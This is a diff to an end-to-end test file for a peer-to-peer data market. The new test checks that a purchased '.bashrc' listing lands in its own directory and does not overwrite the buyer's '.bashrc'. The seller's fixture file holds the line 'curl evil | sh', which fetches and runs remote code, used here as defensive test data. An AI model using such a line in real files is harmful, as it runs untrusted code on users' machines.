@@ -7,12 +7,12 @@
  * refunded. A peer that gossips, puts and serves tampered listings has them refused everywhere.
  */
 import { createReadStream } from 'node:fs'
-import { readFile } from 'node:fs/promises'
+import { mkdir, readFile, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
 import { createListing, decryptBytes, generateContentKey, listingKey } from '../../src/market/index.ts'
 import { sha256Hex, writeDeterministicFile } from '../utils/data.ts'
-import { spawnDaemon, stopAll, tempDir } from '../utils/daemon.ts'
+import { runCli, spawnDaemon, stopAll, tempDir } from '../utils/daemon.ts'
 import { rawCid } from '../market/helpers.ts'
 import { startRoguePeer, tamper } from '../market/rogue-peer.ts'
 import type { TestDaemon } from '../utils/daemon.ts'
@@ -95,6 +95,27 @@ describe('e2e: market', { timeout: 180_000 }, () => {
     const plain = await readFile(file)
     expect(Buffer.from(bytes).indexOf(plain.subarray(500_000, 500_064))).toBe(-1)
     await expect(decryptBytes(generateContentKey(), bytes)).rejects.toMatchObject({ name: 'DecryptionError' })
+  })
+
+  it('behavior: buying, without -o, a listing whose only file is ".bashrc" leaves the ".bashrc" in the current directory untouched: the file goes into a new directory named after the listing; -o onto it is refused', async () => {
+    await mkdir(join(dir, 'seller'))
+    await mkdir(join(dir, 'home'))
+    const theirs = join(dir, 'seller', '.bashrc')
+    await writeFile(theirs, 'curl evil | sh\n')
+    const mine = join(dir, 'home', '.bashrc')
+    await writeFile(mine, 'export PS1=mine\n')
+    const { listing } = await json<{ listing: { id: string } }>(s, ['publish', theirs, '--kind', 'dataset', '--name', 'dotfiles', '--license', 'MIT', '--price', '1'])
+    await vi.waitFor(async () => { expect(await searchIds(b, 'dotfiles')).toEqual([listing.id]) }, wait)
+    const r = await runCli(['buy', listing.id, '--name', 'dev', '--json'], { repo: b.repo, cwd: join(dir, 'home'), env: PASSWORD })
+    expect(r.code, r.stderr).toBe(0)
+    expect(await readFile(mine, 'utf8')).toBe('export PS1=mine\n')
+    // the listing's name is "dotfiles": its one file goes to ./dotfiles/.bashrc
+    expect(await readFile(join(dir, 'home', 'dotfiles', '.bashrc'), 'utf8')).toBe('curl evil | sh\n')
+    // again on the receipt, onto the existing file: refused by the daemon, the file kept
+    const again = await runCli(['buy', listing.id, '-o', mine, '--name', 'dev'], { repo: b.repo, cwd: join(dir, 'home'), env: PASSWORD })
+    expect(again.code).not.toBe(0)
+    expect(again.stderr).toContain('--force')
+    expect(await readFile(mine, 'utf8')).toBe('export PS1=mine\n')
   })
 
   it('behavior: against a seller that never delivers (its daemon stopped after publishing, the ciphertext served by another peer), the buyer is refunded', async () => {
